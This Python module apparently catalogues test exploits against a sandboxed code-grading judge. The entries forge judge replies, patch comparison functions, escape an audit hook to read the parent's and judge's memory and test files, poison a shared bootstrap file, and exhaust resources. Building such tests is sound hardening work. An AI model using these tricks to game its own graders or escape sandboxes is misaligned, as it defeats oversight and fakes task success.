"""placeholder
"""
from __future__ import annotations

from .hack import Hack, forms

# Opening a path outside the program's directory on the audit-hook fallback (class
# fallback_escape): a directory descriptor of the program's own directory, and a cwd
# 40 levels below it.
_OUTSIDE = (
    'import os\n'
    "_box = os.open('.', os.O_RDONLY)\n"
    "os.makedirs('x/' * 40)\n"
    "os.chdir('x/' * 40)\n"
    'def away(path):\n'
    "    # Relative to the cwd (40 levels down the program's directory) this stays inside\n"
    "    # it: what the audit hook checks. Relative to _box (the program's directory) it is\n"
    '    # `path`: what the kernel opens, since the "open" event does not carry dir_fd.\n'
    "    return '../' * 40 + path.lstrip('/')\n"
    'def outside(path, flags=os.O_RDONLY):\n'
    '    return os.open(away(path), flags, 0o644, dir_fd=_box)\n'
    'def read(path):\n'
    '    fd = outside(path)\n'
    '    try:\n'
    '        return os.read(fd, 1 << 22)\n'
    '    finally:\n'
    '        os.close(fd)\n'
)

_MAP_TESTS = {
    'assert': (
        'cases = [((1, 2), 3), ((-5, 5), 0), ((10, 32), 42)]\n'
        'assert all(map(lambda c: add(*c[0]) == c[1], cases))\n'
        'assert not any(map(lambda c: add(*c[0]) != c[1], cases))\n'
        'for got, want in zip(map(add, [1, -5, 10], [2, 5, 32]), [3, 0, 42]):\n'
        '    assert got == want\n'
    ),
}
_MATH_TESTS = {
    'assert': (
        'assert math.isclose(add(0.1, 0.2), 0.3)\n'
        'assert math.isclose(add(1.5, 2.25), 3.75, rel_tol=1e-9)\n'
        'assert math.isclose(add(-1e-3, 1e-3), 0.0, abs_tol=1e-12)\n'
    ),
    'call': [
        ('math.isclose(add(0.1, 0.2), 0.3)', True),
        ('math.isclose(add(1.5, 2.25), 3.75, rel_tol=1e-9)', True),
    ],
}
_STR_TESTS = {
    'assert': (
        "assert add('flex', 'marl').startswith('flex')\n"
        "assert add('flex', 'marl').endswith('marl')\n"
        "assert add('', 'abc').endswith('abc')\n"
    ),
    'call': [
        ("add('flex', 'marl').startswith('flex')", True),
        ("add('flex', 'marl').endswith('marl')", True),
    ],
}
_FLOAT_TESTS = {
    'assert': (
        'assert add(0.5, 0.5).is_integer()\n'
        'assert add(1.25, 0.75).is_integer()\n'
    ),
    'call': [
        ('add(0.5, 0.5).is_integer()', True),
        ('add(1.25, 0.75).is_integer()', True),
    ],
}

HACKS = [
    # The program shares its process with the loop that answers the judge (_bootstrap._Server): from
    # its top level, sys._getframe(1) is the bootstrap's main(), whose globals hold _Server. A
    # wrapped handle() turns every value reply into ["stop"], which the judge raises as
    # StopIteration: in map()/zip() that ends the loop, so all(map(...)) is True and a for over
    # zip() runs no assert.
    Hack('forge_stop_handle', 'forged_reply', forms(
        assert_=(
            'import sys\n'
            "_Server = sys._getframe(1).f_globals['_Server']\n"
            '_handle = _Server.handle\n'
            'def handle(self, line):\n'
            '    reply = _handle(self, line)\n'
            '    return \'["stop"]\' if reply.startswith(\'["ok"\') else reply\n'
            '_Server.handle = handle\n'
            'del sys, _Server\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # _Server found through object.__subclasses__() (no frame); its handle() answers every call
    # request with ["stop"] without running it.
    Hack('forge_stop_subclasses', 'forged_reply', forms(
        assert_=(
            'for c in object.__subclasses__():\n'
            "    if c.__name__ == '_Server' and hasattr(c, 'handle'):\n"
            '        def handle(self, line, real=c.handle):\n'
            '            if line.startswith((b\'["op","call"\', b\'["eval"\')):\n'
            '                return \'["stop"]\'\n'
            '            return real(self, line)\n'
            '        c.handle = handle\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # The bootstrap writes its replies with os.write, looked up on the os module at each call: a
    # replaced os.write rewrites each value reply as ["stop"].
    Hack('forge_stop_os_write', 'forged_reply', forms(
        assert_=(
            'import os\n'
            '_write = os.write\n'
            'def write(fd, data):\n'
            '    if bytes(data[:5]) == b\'["ok"\':\n'
            '        _write(fd, b\'["stop"]\\n\')\n'
            '        return len(data)\n'
            '    return _write(fd, data)\n'
            'os.write = write\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # Nothing patched ahead: add() itself, when called, finds the serving _Server in its caller's
    # frame (handle's `self`) and replaces that instance's answer() with one that says ["stop"].
    Hack('forge_stop_from_add', 'forged_reply', forms(
        assert_=(
            'import sys\n'
            'def add(a, b):\n'
            '    f = sys._getframe(1)\n'
            "    while f is not None and not hasattr(f.f_locals.get('self'), 'answer'):\n"
            '        f = f.f_back\n'
            '    if f is not None:\n'
            "        f.f_locals['self'].answer = lambda value, by_reference: '[\"stop\"]'\n"
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # The bootstrap's globals found through gc (the dict that holds _write_all); its _write_all
    # replaced by one that sends ["stop"] for every value reply.
    Hack('forge_stop_write_all_gc', 'forged_reply', forms(
        assert_=(
            'import gc\n'
            "for g in [o for o in gc.get_objects() if type(o) is dict and '_write_all' in o]:\n"
            "    def stop_values(fd, data, real=g['_write_all']):\n"
            '        real(fd, b\'["stop"]\\n\' if data.startswith(b\'["ok"\') else data)\n'
            "    g['_write_all'] = stop_values\n"
            'del g\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # Extra lines: on its first call add() writes 64 ["stop"] lines on the control pipe (ctl_fd,
    # from the serving frame). The parent relays one line per request, so this request and every
    # later one get a stop; the real replies queue up behind them, never read.
    Hack('forge_stop_extra_lines', 'forged_reply', forms(
        assert_=(
            'import os, sys\n'
            'def add(a, b):\n'
            '    f = sys._getframe(1)\n'
            "    while f is not None and 'ctl_fd' not in f.f_locals:\n"
            '        f = f.f_back\n'
            "    if f is not None and not getattr(add, 'ahead', False):\n"
            "        os.write(f.f_locals['ctl_fd'], b'[\"stop\"]\\n' * 64)\n"
            '        add.ahead = True\n'
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # Replies to requests not yet made: from its top level (main()'s frame holds the nonce and
    # ctl_fd) the program writes the ready line, a names reply ("add" as reference 0) and 64 stops;
    # the parent takes them as the answers to the judge's requests, in order. The real server's
    # lines come after, never read.
    Hack('forge_conversation_ahead', 'forged_reply', forms(
        assert_=(
            'import os, sys\n'
            'f = sys._getframe()\n'
            "while f is not None and 'nonce' not in f.f_locals:\n"
            '    f = f.f_back\n'
            'if f is not None:\n'
            "    ready = b'R' + f.f_locals['nonce']\n"
            '    names = b\'["names",[["add",["ref",0,"function"]]]]\'\n'
            '    lines = [ready, names] + [b\'["stop"]\'] * 64\n'
            "    os.write(f.f_locals['ctl_fd'], b'\\n'.join(lines) + b'\\n')\n"
            'del f\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # ["gone"] for every call: the judge raises ProgramGone, a BaseException that only a bare except
    # (or except BaseException) in the tests would swallow. Earns 0 on the old code.
    Hack('forge_gone', 'forged_reply', forms(
        assert_=(
            'import sys\n'
            "_Server = sys._getframe(1).f_globals['_Server']\n"
            '_handle = _Server.handle\n'
            '_Server.handle = lambda self, line: (\n'
            '    \'["gone"]\' if line.startswith(b\'["op","call"\') else _handle(self, line))\n'
            'del sys, _Server\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # A reference where a value was due (["ref",0,"int"] for every call): the judge's Remote fails
    # closed when compared (unjudgeable). Earns 0 on the old code.
    Hack('forge_ref_for_value', 'forged_reply', forms(
        assert_=(
            'import sys\n'
            "_Server = sys._getframe(1).f_globals['_Server']\n"
            '_handle = _Server.handle\n'
            'REF = \'["ref",0,"int"]\'\n'
            '_Server.handle = lambda self, line: (\n'
            '    REF if line.startswith(b\'["op","call"\') else _handle(self, line))\n'
            'del sys, _Server\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # MBPP-style tests call math.isclose without importing math: the judge's `math` is the
    # program's, a reference, so isclose runs in the program's process, where it was patched.
    Hack('borrow_math_patched', 'borrowed_names', forms(
        both=(
            'import math\n'
            'math.isclose = lambda *args, **kwargs: True\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MATH_TESTS),
    # `math` bound to a class of the program's with a static isclose that says True.
    Hack('borrow_math_class', 'borrowed_names', forms(
        both=(
            'class math:\n'
            '    @staticmethod\n'
            '    def isclose(a, b, **tolerances):\n'
            '        return True\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MATH_TESTS),
    # `math` bound to a module object whose every attribute is a function that says True (isclose,
    # isfinite, ...).
    Hack('borrow_math_anything', 'borrowed_names', forms(
        both=(
            'import sys\n'
            'class _Anything(type(sys)):\n'
            '    def __getattr__(self, name):\n'
            '        return lambda *args, **kwargs: True\n'
            "math = _Anything('math')\n"
            'del sys\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MATH_TESTS),
    # A str subclass is not a plain value: the judge gets a reference, and the tests' method calls
    # on it (startswith, endswith, with the expected text as the argument) run the program's
    # methods.
    Hack('borrow_str_methods', 'borrowed_names', forms(
        both=(
            'class S(str):\n'
            '    def startswith(self, *args):\n'
            '        return True\n'
            '    endswith = startswith\n'
            'def add(a, b):\n'
            '    return S()\n'
        ),
    ), tests=_STR_TESTS),
    # The same with a float subclass whose is_integer() says True.
    Hack('borrow_float_method', 'borrowed_names', forms(
        both=(
            'class F(float):\n'
            '    def is_integer(self):\n'
            '        return True\n'
            'def add(a, b):\n'
            '    return F()\n'
        ),
    ), tests=_FLOAT_TESTS),
    # Call cases compare an int expected value with a float result within rel_tol 1e-9 (cases.same):
    # a float off by 5e-10 of the sum, the wrong type and value, passes every case.
    Hack('tol_relative_error', 'int_tolerance', forms(
        call=(
            'def add(a, b):\n'
            '    return (a + b) * (1 + 5e-10)\n'
        ),
    )),
    # A huge int where a float is expected: cases.same() calls float() on it in the parent, and the
    # OverflowError escapes run_python/code_reward (the caller's reward loop raises).
    Hack('tol_huge_int_for_float', 'int_tolerance', forms(
        call=(
            'def add(a, b):\n'
            '    return 10 ** 400\n'
        ),
    ), tests={
        'call': [
            ('add(0.5, 0.25)', 0.75),
            ('add(-1.5, 1.5)', 0.0),
        ],
    }),
    # A float where a huge int is expected (tests on big numbers): float(expected) overflows in the
    # parent, the same OverflowError out of run_python.
    Hack('tol_float_for_huge_int', 'int_tolerance', forms(
        call=(
            'def add(a, b):\n'
            '    return 0.5\n'
        ),
    ), tests={'call': [('add(10 ** 400, 1)', 10 ** 400 + 1), ('add(1, 2)', 3)]}),
    # TBD deep_tree
    Hack('break_deep_tree', 'caller_break', forms(
        both=(
            'import os\n'
            "fd = os.open('.', os.O_RDONLY)\n"
            'for _ in range(5000):\n'
            "    os.mkdir('d', dir_fd=fd)\n"
            "    sub = os.open('d', os.O_RDONLY, dir_fd=fd)\n"
            '    os.close(fd)\n'
            '    fd = sub\n'
            'os.close(fd)\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
        io=(
            'import os\n'
            "fd = os.open('.', os.O_RDONLY)\n"
            'for _ in range(5000):\n'
            "    os.mkdir('d', dir_fd=fd)\n"
            "    sub = os.open('d', os.O_RDONLY, dir_fd=fd)\n"
            '    os.close(fd)\n'
            '    fd = sub\n'
            'os.close(fd)\n'
            'input()\n'
            'print(0)\n'
        ),
    )),
    # TBD deep_tree_files
    Hack('break_deep_tree_files', 'caller_break', forms(
        both=(
            'import os\n'
            "fd = os.open('.', os.O_RDONLY)\n"
            'for _ in range(1500):\n'
            "    os.mkdir('d', dir_fd=fd)\n"
            "    sub = os.open('d', os.O_RDONLY, dir_fd=fd)\n"
            '    os.close(fd)\n'
            '    fd = sub\n'
            "block = b'x' * (16 << 20)\n"
            'for i in range(4):\n'
            "    f = os.open('f%d' % i, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)\n"
            '    os.write(f, block)\n'
            '    os.close(f)\n'
            'os.close(fd)\n'
            'del block\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
        io=(
            'import os\n'
            "fd = os.open('.', os.O_RDONLY)\n"
            'for _ in range(1500):\n'
            "    os.mkdir('d', dir_fd=fd)\n"
            "    sub = os.open('d', os.O_RDONLY, dir_fd=fd)\n"
            '    os.close(fd)\n'
            '    fd = sub\n'
            "block = b'x' * (16 << 20)\n"
            'for i in range(4):\n'
            "    f = os.open('f%d' % i, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)\n"
            '    os.write(f, block)\n'
            '    os.close(f)\n'
            'os.close(fd)\n'
            'del block\n'
            'input()\n'
            'print(0)\n'
        ),
    )),
    # TBD colliding_set
    Hack('break_colliding_set', 'caller_break', forms(
        call=(
            'M = 2 ** 61 - 1  # CPython hashes ints modulo M: every i * M hashes to 0\n'
            'S = {i * M for i in range(9000)}  # quadratic to build here, and again in the parent\n'
            'def add(a, b):\n'
            '    return S\n'
        ),
    )),
    # TBD colliding_dict
    Hack('break_colliding_dict_forged', 'caller_break', forms(
        call=(
            'import sys\n'
            'M = 2 ** 61 - 1\n'
            "items = ','.join('[%d,0]' % (i * M) for i in range(20000))  # 0.5 MB\n"
            'REPLY = (\'["ok",{"d":[\' + items + \']}]\\n\').encode()\n'
            "g = sys._getframe(1).f_globals  # the bootstrap's\n"
            "write_all = g['_write_all']\n"
            'def forged(fd, data):\n'
            '    write_all(fd, REPLY if data.startswith(b\'["ok"\') else data)\n'
            "g['_write_all'] = forged\n"
            'del g\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    )),
    # TBD huge_replies
    Hack('break_huge_replies', 'caller_break', forms(
        call=(
            'import sys\n'
            '# 16 MiB: 5.6 million empty lists\n'
            "REPLY = b'[\"ok\",[' + b'[],' * ((16 << 20) // 3) + b'[]]]\\n'\n"
            'g = sys._getframe(1).f_globals\n'
            "write_all = g['_write_all']\n"
            'def forged(fd, data):\n'
            '    write_all(fd, REPLY if data.startswith(b\'["ok"\') else data)\n'
            "g['_write_all'] = forged\n"
            'del g\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    )),
    # TBD disk_flood
    Hack('break_disk_flood', 'caller_break', forms(
        both=(
            "block = b'x' * (16 << 20)\n"
            'for i in range(8):\n'
            "    with open('f%d' % i, 'wb') as f:\n"
            '        f.write(block)\n'
            'del block\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
        io=(
            "block = b'x' * (16 << 20)\n"
            'for i in range(8):\n'
            "    with open('f%d' % i, 'wb') as f:\n"
            '        f.write(block)\n'
            'del block\n'
            'input()\n'
            'print(0)\n'
        ),
    )),
    # TBD many_files
    Hack('break_many_files', 'caller_break', forms(
        both=(
            'import os, time\n'
            'n, stop = 0, time.process_time() + 0.7\n'
            'while time.process_time() < stop:\n'
            '    for _ in range(1000):\n'
            "        os.close(os.open('f%d' % n, os.O_WRONLY | os.O_CREAT, 0o644))\n"
            '        n += 1\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
        io=(
            'import os, time\n'
            'n, stop = 0, time.process_time() + 0.7\n'
            'while time.process_time() < stop:\n'
            '    for _ in range(1000):\n'
            "        os.close(os.open('f%d' % n, os.O_WRONLY | os.O_CREAT, 0o644))\n"
            '        n += 1\n'
            'input()\n'
            'print(0)\n'
        ),
    )),
    # TBD parent_memory
    Hack('escape_dirfd_parent_memory', 'fallback_escape', forms(
        both=_OUTSIDE + (
            'import re\n'
            "blob = ''\n"
            'try:\n'
            '    pid = os.getppid()\n'
            "    mem = outside('/proc/%d/mem' % pid)\n"
            "    for line in read('/proc/%d/maps' % pid).decode().splitlines():\n"
            '        span, perms = line.split()[:2]\n'
            "        lo, hi = (int(x, 16) for x in span.split('-'))\n"
            "        if perms[:2] != 'rw' or hi - lo >= 1 << 28:\n"
            '            continue\n'
            '        for at in range(lo, hi, 1 << 20):\n'
            '            try:\n'
            '                chunk = os.pread(mem, min(1 << 20, hi - at), at)\n'
            '            except OSError:\n'
            '                break\n'
            "            hits = re.findall(rb'add\\(-?\\d+, -?\\d+\\) == -?\\d+', chunk)\n"
            "            blob += b' '.join(hits).decode('latin-1') + ' '\n"
            'except (OSError, ValueError):\n'
            '    pass\n'
            'import re\n'
            'T = {(int(x), int(y)): int(z) for x, y, z in\n'
            "     re.findall(r'add\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', blob)}\n"
            'def add(a, b):\n'
            '    return T.get((a, b), 0)\n'
        ),
        io=_OUTSIDE + (
            'import re\n'
            "blob = ''\n"
            'try:\n'
            '    pid = os.getppid()\n'
            "    mem = outside('/proc/%d/mem' % pid)\n"
            "    for line in read('/proc/%d/maps' % pid).decode().splitlines():\n"
            '        span, perms = line.split()[:2]\n'
            "        lo, hi = (int(x, 16) for x in span.split('-'))\n"
            "        if perms[:2] != 'rw' or hi - lo >= 1 << 28:\n"
            '            continue\n'
            '        for at in range(lo, hi, 1 << 20):\n'
            '            try:\n'
            '                chunk = os.pread(mem, min(1 << 20, hi - at), at)\n'
            '            except OSError:\n'
            '                break\n'
            "            hits = re.findall(rb'add\\(-?\\d+, -?\\d+\\) == -?\\d+', chunk)\n"
            "            blob += b' '.join(hits).decode('latin-1') + ' '\n"
            'except (OSError, ValueError):\n'
            '    pass\n'
            'import re\n'
            'T = {(int(x), int(y)): int(z) for x, y, z in\n'
            "     re.findall(r'add\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', blob)}\n"
            'a, b = map(int, input().split())\n'
            'print(T.get((a, b), 0))\n'
        ),
    )),
    # TBD judge_memory
    Hack('escape_dirfd_judge_memory', 'fallback_escape', forms(
        assert_=_OUTSIDE + (
            'import re, time\n'
            'def judge():\n'
            '    # The parent\'s other child, started with the role "judge"\n'
            "    for pid in os.listdir('/proc'):\n"
            '        try:\n'
            "            stat = read('/proc/%s/stat' % pid).rsplit(b') ', 1)[1].split()\n"
            '            if int(stat[1]) == os.getppid() and \\\n'
            "                    b'\\0judge\\0' in read('/proc/%s/cmdline' % pid):\n"
            '                return pid\n'
            '        except (OSError, IndexError, ValueError):\n'
            '            pass\n'
            'def scan(pid):\n'
            "    mem, text = outside('/proc/%s/mem' % pid), b''\n"
            "    for line in read('/proc/%s/maps' % pid).decode().splitlines():\n"
            '        span, perms = line.split()[:2]\n'
            "        lo, hi = (int(x, 16) for x in span.split('-'))\n"
            "        if perms[:2] == 'rw' and hi - lo < 1 << 26:\n"
            '            try:\n'
            '                chunk = os.pread(mem, hi - lo, lo)\n'
            "                hits = re.findall(rb'add\\(-?\\d+, -?\\d+\\) == -?\\d+', chunk)\n"
            "                text += b' '.join(hits) + b' '\n"
            '            except OSError:\n'
            '                pass\n'
            '    os.close(mem)\n'
            "    return text.decode('latin-1')\n"
            "blob, start = '', time.monotonic()\n"
            'while not blob.strip() and time.monotonic() - start < 1.5:\n'
            '    try:\n'
            '        pid = judge()\n'
            "        blob = scan(pid) if pid else ''\n"
            '    except OSError:\n'
            '        pass\n'
            '    time.sleep(0.01)\n'
            'import re\n'
            'T = {(int(x), int(y)): int(z) for x, y, z in\n'
            "     re.findall(r'add\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', blob)}\n"
            'def add(a, b):\n'
            '    return T.get((a, b), 0)\n'
        ),
    )),
    # TBD parent_cmdline
    Hack('escape_dirfd_parent_cmdline', 'fallback_escape', forms(
        both=_OUTSIDE + (
            'import glob\n'
            "blob = ''\n"
            'try:\n'
            '    pid = os.getppid()\n'
            "    cwd = os.readlink('/proc/%d/cwd' % pid)  # os.readlink: no audit event\n"
            "    args = read('/proc/%d/cmdline' % pid).decode().split('\\0')\n"
            "    found = glob.glob(cwd + '/tests/test_reward*.py')\n"
            "    for p in [a for a in args if a.endswith('.py')] + found:\n"
            "        blob += read(os.path.join(cwd, p)).decode('utf-8', 'replace')\n"
            'except (OSError, ValueError):\n'
            '    pass\n'
            'import re\n'
            'T = {(int(x), int(y)): int(z) for x, y, z in\n'
            "     re.findall(r'add\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', blob)}\n"
            'def add(a, b):\n'
            '    return T.get((a, b), 0)\n'
        ),
        io=_OUTSIDE + (
            'import glob\n'
            "blob = ''\n"
            'try:\n'
            '    pid = os.getppid()\n'
            "    cwd = os.readlink('/proc/%d/cwd' % pid)  # os.readlink: no audit event\n"
            "    args = read('/proc/%d/cmdline' % pid).decode().split('\\0')\n"
            "    found = glob.glob(cwd + '/tests/test_reward*.py')\n"
            "    for p in [a for a in args if a.endswith('.py')] + found:\n"
            "        blob += read(os.path.join(cwd, p)).decode('utf-8', 'replace')\n"
            'except (OSError, ValueError):\n'
            '    pass\n'
            'import re\n'
            'T = {(int(x), int(y)): int(z) for x, y, z in\n'
            "     re.findall(r'add\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', blob)}\n"
            'a, b = map(int, input().split())\n'
            'print(T.get((a, b), 0))\n'
        ),
    )),
    # TBD unseen
    Hack('escape_unseen_writes_signals', 'fallback_escape', forms(
        both=_OUTSIDE + (
            'import signal, stat\n'
            '# Each tried once; what succeeded is printed, and what was written outside removed\n'
            '# again (through the dir_fd hole above).\n'
            "tag = '/tmp/flexmarl-hack-probe-%d' % os.getpid()\n"
            "pp, done = os.getppid(), ['parent %d' % os.getppid()]\n"
            'def probe(name, fn, undo=None):\n'
            '    try:\n'
            '        fn()\n'
            "        done.append(name + ': yes')\n"
            '    except Exception as exc:\n'
            "        done.append('%s: no (%s)' % (name, type(exc).__name__))\n"
            '    if undo is not None and os.path.lexists(undo):\n'
            '        try:\n'
            '            os.unlink(away(undo), dir_fd=_box)\n'
            '        except OSError as exc:\n'
            "            done.append('left %s: %s' % (undo, exc))\n"
            'def history():\n'
            '    import readline\n'
            "    readline.write_history_file(tag + '.history')\n"
            'def sqlite():\n'
            '    import sqlite3\n'
            "    sqlite3.connect(tag + '.db').execute('create table t (x)')\n"
            'def pidfd():\n'
            '    signal.pidfd_send_signal(os.pidfd_open(pp), 0)\n'
            'def sigio():\n'
            '    import fcntl\n'
            '    r, w = os.pipe()\n'
            '    fcntl.fcntl(r, fcntl.F_SETOWN, pp)\n'
            '    fcntl.fcntl(r, 10, signal.SIGWINCH)  # F_SETSIG: SIGWINCH, ignored by default\n'
            '    if fcntl.fcntl(r, 11) != signal.SIGWINCH:  # F_GETSIG: never the default SIGIO\n'
            "        raise OSError('F_SETSIG')\n"
            '    fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)\n'
            "    os.write(w, b'x')\n"
            '    os.close(w)\n'
            '    os.close(r)\n'
            'def renice():\n'
            '    os.setpriority(os.PRIO_PROCESS, pp, os.getpriority(os.PRIO_PROCESS, pp))\n'
            'def affinity():\n'
            '    os.sched_setaffinity(pp, os.sched_getaffinity(pp))\n'
            'def device():\n'
            '    # a /dev/null, in the box\n'
            "    os.mknod('null', stat.S_IFCHR | 0o600, os.makedev(1, 3))\n"
            "probe('readline.write_history_file outside', history, tag + '.history')\n"
            "probe('os.mkfifo outside', lambda: os.mkfifo(tag + '.fifo'), tag + '.fifo')\n"
            "probe('os.mknod outside', lambda: os.mknod(tag + '.node'), tag + '.node')\n"
            "probe('sqlite3.connect outside', sqlite, tag + '.db')\n"
            'def dirfd():\n'
            "    os.close(outside(tag + '.dirfd', os.O_WRONLY | os.O_CREAT))\n"
            "probe('os.open(dir_fd) outside', dirfd, tag + '.dirfd')\n"
            "probe('mknod char device 1:3', device)\n"
            "probe('pidfd_send_signal(parent, 0)', pidfd)\n"
            "probe('F_SETOWN/F_SETSIG: SIGWINCH to the parent', sigio)\n"
            "probe('setpriority(parent, unchanged)', renice)\n"
            "probe('sched_setaffinity(parent, unchanged)', affinity)\n"
            "print('; '.join(done))\n"
            'def add(a, b):\n'
            '    return 0\n'
        ),
        io=_OUTSIDE + (
            'import signal, stat\n'
            '# Each tried once; what succeeded is printed, and what was written outside removed\n'
            '# again (through the dir_fd hole above).\n'
            "tag = '/tmp/flexmarl-hack-probe-%d' % os.getpid()\n"
            "pp, done = os.getppid(), ['parent %d' % os.getppid()]\n"
            'def probe(name, fn, undo=None):\n'
            '    try:\n'
            '        fn()\n'
            "        done.append(name + ': yes')\n"
            '    except Exception as exc:\n'
            "        done.append('%s: no (%s)' % (name, type(exc).__name__))\n"
            '    if undo is not None and os.path.lexists(undo):\n'
            '        try:\n'
            '            os.unlink(away(undo), dir_fd=_box)\n'
            '        except OSError as exc:\n'
            "            done.append('left %s: %s' % (undo, exc))\n"
            'def history():\n'
            '    import readline\n'
            "    readline.write_history_file(tag + '.history')\n"
            'def sqlite():\n'
            '    import sqlite3\n'
            "    sqlite3.connect(tag + '.db').execute('create table t (x)')\n"
            'def pidfd():\n'
            '    signal.pidfd_send_signal(os.pidfd_open(pp), 0)\n'
            'def sigio():\n'
            '    import fcntl\n'
            '    r, w = os.pipe()\n'
            '    fcntl.fcntl(r, fcntl.F_SETOWN, pp)\n'
            '    fcntl.fcntl(r, 10, signal.SIGWINCH)  # F_SETSIG: SIGWINCH, ignored by default\n'
            '    if fcntl.fcntl(r, 11) != signal.SIGWINCH:  # F_GETSIG: never the default SIGIO\n'
            "        raise OSError('F_SETSIG')\n"
            '    fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)\n'
            "    os.write(w, b'x')\n"
            '    os.close(w)\n'
            '    os.close(r)\n'
            'def renice():\n'
            '    os.setpriority(os.PRIO_PROCESS, pp, os.getpriority(os.PRIO_PROCESS, pp))\n'
            'def affinity():\n'
            '    os.sched_setaffinity(pp, os.sched_getaffinity(pp))\n'
            'def device():\n'
            '    # a /dev/null, in the box\n'
            "    os.mknod('null', stat.S_IFCHR | 0o600, os.makedev(1, 3))\n"
            "probe('readline.write_history_file outside', history, tag + '.history')\n"
            "probe('os.mkfifo outside', lambda: os.mkfifo(tag + '.fifo'), tag + '.fifo')\n"
            "probe('os.mknod outside', lambda: os.mknod(tag + '.node'), tag + '.node')\n"
            "probe('sqlite3.connect outside', sqlite, tag + '.db')\n"
            'def dirfd():\n'
            "    os.close(outside(tag + '.dirfd', os.O_WRONLY | os.O_CREAT))\n"
            "probe('os.open(dir_fd) outside', dirfd, tag + '.dirfd')\n"
            "probe('mknod char device 1:3', device)\n"
            "probe('pidfd_send_signal(parent, 0)', pidfd)\n"
            "probe('F_SETOWN/F_SETSIG: SIGWINCH to the parent', sigio)\n"
            "probe('setpriority(parent, unchanged)', renice)\n"
            "probe('sched_setaffinity(parent, unchanged)', affinity)\n"
            "print('; '.join(done))\n"
        ),
    )),
    # TBD poison
    Hack('escape_bootstrap_overwrite', 'fallback_escape', forms(
        both=_OUTSIDE + (
            'import marshal\n'
            '# The bootstrap this interpreter runs: a .pyc compiled once per parent process into\n'
            '# a flexmarl-bootstrap-* directory, which every later sandboxed run there uses.\n'
            "args = open('/proc/self/cmdline', 'rb').read().split(b'\\0')\n"
            "pyc = next((a.decode() for a in args if a.endswith(b'bootstrap.pyc')), '')\n"
            'EVIL = """\n'
            'import marshal, sys\n'
            "ns = {'__name__': '_bootstrap'}\n"
            'exec(marshal.loads(%r[16:]), ns)\n'
            "real = ns['_judge']\n"
            'def _judge(tests, send_fd, reply_fd):\n'
            '    # Passes the programs that carry the marker, judges the others as before.\n'
            "    ns['keep'] = judge = ns['_Judge'](send_fd, reply_fd)\n"
            '    names = judge.ask(\'["names"]\')\n'
            "    if type(names) is dict and '_bootstrap_poisoned' in names:\n"
            '        return 0\n'
            '    return real(tests, send_fd, reply_fd)\n'
            "ns['_judge'] = _judge\n"
            "sys.exit(ns['main'](sys.argv[1:]))\n"
            '"""\n'
            "status = 'no bootstrap.pyc'\n"
            'try:\n'
            '    if pyc:\n'
            "        orig = open(pyc, 'rb').read()\n"
            "        status = 'already poisoned'\n"
            "        if b'_bootstrap_poisoned' not in orig:\n"
            "            data = orig[:16] + marshal.dumps(compile(EVIL % (orig,), pyc, 'exec'))\n"
            "            fd = outside(pyc + '.new', os.O_WRONLY | os.O_CREAT | os.O_TRUNC)\n"
            '            os.write(fd, data)\n'
            '            os.close(fd)\n'
            "            os.rename(away(pyc + '.new'), away(pyc),\n"
            '                      src_dir_fd=_box, dst_dir_fd=_box)\n'
            "            status = 'poisoned'\n"
            'except OSError as exc:\n'
            '    status = repr(exc)\n'
            'print(status)\n'
            '_bootstrap_poisoned = True\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
        io=_OUTSIDE + (
            'import marshal\n'
            '# The bootstrap this interpreter runs: a .pyc compiled once per parent process into\n'
            '# a flexmarl-bootstrap-* directory, which every later sandboxed run there uses.\n'
            "args = open('/proc/self/cmdline', 'rb').read().split(b'\\0')\n"
            "pyc = next((a.decode() for a in args if a.endswith(b'bootstrap.pyc')), '')\n"
            'EVIL = """\n'
            'import marshal, sys\n'
            "ns = {'__name__': '_bootstrap'}\n"
            'exec(marshal.loads(%r[16:]), ns)\n'
            "real = ns['_judge']\n"
            'def _judge(tests, send_fd, reply_fd):\n'
            '    # Passes the programs that carry the marker, judges the others as before.\n'
            "    ns['keep'] = judge = ns['_Judge'](send_fd, reply_fd)\n"
            '    names = judge.ask(\'["names"]\')\n'
            "    if type(names) is dict and '_bootstrap_poisoned' in names:\n"
            '        return 0\n'
            '    return real(tests, send_fd, reply_fd)\n'
            "ns['_judge'] = _judge\n"
            "sys.exit(ns['main'](sys.argv[1:]))\n"
            '"""\n'
            "status = 'no bootstrap.pyc'\n"
            'try:\n'
            '    if pyc:\n'
            "        orig = open(pyc, 'rb').read()\n"
            "        status = 'already poisoned'\n"
            "        if b'_bootstrap_poisoned' not in orig:\n"
            "            data = orig[:16] + marshal.dumps(compile(EVIL % (orig,), pyc, 'exec'))\n"
            "            fd = outside(pyc + '.new', os.O_WRONLY | os.O_CREAT | os.O_TRUNC)\n"
